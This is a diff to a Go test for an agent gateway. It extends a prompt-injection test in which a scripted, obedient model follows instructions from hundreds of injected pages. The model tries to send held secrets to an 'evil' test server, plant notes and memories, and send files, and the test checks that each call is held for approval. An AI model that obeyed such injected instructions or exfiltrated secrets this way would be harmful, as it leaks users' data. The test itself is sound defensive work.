@@ -6,6 +6,7 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"io"
 	"log/slog"
@@ -24,8 +25,12 @@ import (
 	"github.com/gatehouse-chat/gatehouse/channels"
 	"github.com/gatehouse-chat/gatehouse/config"
 	"github.com/gatehouse-chat/gatehouse/gateway/bus/inprocess"
+	"github.com/gatehouse-chat/gatehouse/gateway/bus/open"
+	"github.com/gatehouse-chat/gatehouse/internal/db/sqlite"
 	"github.com/gatehouse-chat/gatehouse/internal/policy"
 	"github.com/gatehouse-chat/gatehouse/internal/scope"
+	memsqlite "github.com/gatehouse-chat/gatehouse/memory/sqlite"
+	"github.com/gatehouse-chat/gatehouse/memory/store"
 	"github.com/gatehouse-chat/gatehouse/vault"
 	"github.com/gatehouse-chat/gatehouse/vault/egress"
 	"github.com/gatehouse-chat/gatehouse/vault/leak"
@@ -49,6 +54,7 @@ type lab struct {
 	gate  agent.Gate
 	scope scope.Scope
 	state *inprocess.Engine
+	kept  *store.Store // the memory
 	good  *server
 	evil  *server
 }
@@ -135,8 +141,21 @@ func newLab(t *testing.T) *lab {
 			t.Fatal(err)
 		}
 	}
-	b := &border{gate: egress.New(egress.Options{Log: log, Leaks: leaks}), vault: v, state: l.state, workspace: workspace, leaks: leaks}
-	c := config.Config{Agent: config.Agent{Tools: toolNames(), Hosts: []string{l.good.URL, l.evil.URL}}}
+	engine, err := open.Open(t.Context(), filepath.Join(folder, "memory.db"), open.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = engine.Close() })
+	db, ok := engine.(interface{ DB() *sqlite.DB })
+	if !ok {
+		t.Fatalf("%T has no database", engine)
+	}
+	l.kept = store.New(store.Options{Engine: memsqlite.New(db.DB())})
+	b := &border{
+		gate: egress.New(egress.Options{Log: log, Leaks: leaks}), vault: v, state: l.state, workspace: workspace, leaks: leaks, memory: l.kept,
+	}
+	// The module is one that is not there: what counts is that no call of it gets so far.
+	c := config.Config{Agent: config.Agent{Tools: append(toolNames(), config.ModuleTool+"courier"), Hosts: []string{l.good.URL, l.evil.URL}}}
 	tools := b.tools(c.Agent)
 	var rules *policy.Engine
 	if rules, err = readPolicy(c, tools); err != nil {
@@ -152,14 +171,37 @@ func newLab(t *testing.T) *lab {
 	return l
 }
 
-// person is the port of a turn: somebody who says yes or no to everything.
+// person is the port of a turn: somebody who says yes or no to everything, and
+// reads what files they are given.
 type person struct {
 	yes    bool
 	asked  []agent.Request
 	drafts []string
+	files  []string
 }
 
-var _ agent.Port = (*person)(nil)
+var (
+	_ agent.Port  = (*person)(nil)
+	_ agent.Files = (*person)(nil)
+)
+
+func (*person) Fetch(context.Context, channels.File) (channels.File, error) {
+	return channels.File{}, agent.ErrFileTooLarge
+}
+
+func (*person) Open(context.Context, channels.File) (io.ReadCloser, error) {
+	return nil, agent.ErrFileTooLarge
+}
+
+func (p *person) Keep(ctx context.Context, f channels.File) (channels.File, error) {
+	in, err := f.Open(ctx)
+	if err != nil {
+		return f, err
+	}
+	b, err := io.ReadAll(in)
+	p.files, f.Blob = append(p.files, string(b)), fmt.Sprint(len(p.files))
+	return f, errors.Join(err, in.Close())
+}
 
 func (*person) Next(context.Context) ([]channels.Event, error) { return nil, nil }
 func (p *person) Draft(s string)                               { p.drafts = append(p.drafts, s) }
@@ -174,7 +216,7 @@ func (l *lab) run(t *testing.T, id, said string, s agenttest.Script, p *person) 
 	t.Helper()
 	a, m := l.agent(s)
 	res, err := a.Run(t.Context(), agent.Turn{
-		ID: id, Scope: l.scope, Room: channels.Room{Direct: true}, Model: "default", Attempt: 1, Gate: l.gate,
+		ID: id, Scope: l.scope, Room: channels.Room{Direct: true}, Model: "default", Attempt: 1, Gate: l.gate, Files: p,
 		Events: []channels.Event{{Key: id, Who: channels.Sender{ID: "1", Name: "Ada"}, Addressed: true, Content: channels.Message{ID: "1", Text: said}}},
 	}, p)
 	if err != nil {
@@ -262,7 +304,7 @@ func TestInvariant06ObedientModel(t *testing.T) {
 	if len(l.good.pages) < 400 {
 		t.Fatalf("%d injections", len(l.good.pages))
 	}
-	asked := 0
+	asked, files := 0, 0
 	for i := range l.good.pages {
 		page, secret := fmt.Sprintf("%s/page/%d", l.good.URL, i), held[i%len(held)].name
 		obey := func(told string) []agent.ToolCall {
@@ -275,6 +317,10 @@ func TestInvariant06ObedientModel(t *testing.T) {
 				use("http_request", map[string]any{"url": l.good.URL + "/again", "secret": secret}),
 				use("notes_write", map[string]any{"title": "planted", "text": told[:min(len(told), 500)]}),
 				use("notes_read", map[string]any{}),
+				use("remember", map[string]any{"text": told[:min(len(told), 500)]}),
+				use("recall", map[string]any{"query": "key"}),
+				use("send_file", map[string]any{"name": "all.txt", "text": told}),
+				use("courier", map[string]any{"to": l.evil.URL, "text": told}),
 			}
 		}
 		p := &person{}
@@ -283,8 +329,8 @@ func TestInvariant06ObedientModel(t *testing.T) {
 			one(use("http_request", map[string]any{"url": page})),
 			obey, obey,
 		), p)
-		asked += len(p.asked)
-		sinks := strings.Join(p.drafts, "\n")
+		asked, files = asked+len(p.asked), files+len(p.files)
+		sinks := strings.Join(append(p.drafts, p.files...), "\n")
 		for _, r := range res.Replies {
 			sinks += r.Markdown
 		}
@@ -315,6 +361,12 @@ func TestInvariant06ObedientModel(t *testing.T) {
 	if rows, err := l.state.List(t.Context(), "note", "", "", 0); err != nil || len(rows) != 0 {
 		t.Errorf("%d notes were planted, %v", len(rows), err)
 	}
+	if all, err := l.kept.List(t.Context(), l.scope, store.Page{Everywhere: true}); err != nil || len(all) != 0 {
+		t.Errorf("%d memories were planted, %v", len(all), err)
+	}
+	if files == 0 {
+		t.Error("no file was sent")
+	}
 	if got := l.good.count("GET /page/"); got != n {
 		t.Errorf("%d of %d pages were read", got, n)
 	}
@@ -323,8 +375,8 @@ func TestInvariant06ObedientModel(t *testing.T) {
 			t.Errorf("%s was never used", h.name)
 		}
 	}
-	if asked != 2*7*n { // six requests and a note, twice
-		t.Errorf("%d questions, want %d", asked, 2*7*n)
+	if asked != 2*9*n { // six requests, a note, a memory and a module, twice
+		t.Errorf("%d questions, want %d", asked, 2*9*n)
 	}
 	t.Logf("%d injections obeyed: %d calls held up, 0 made", n, asked)
 }
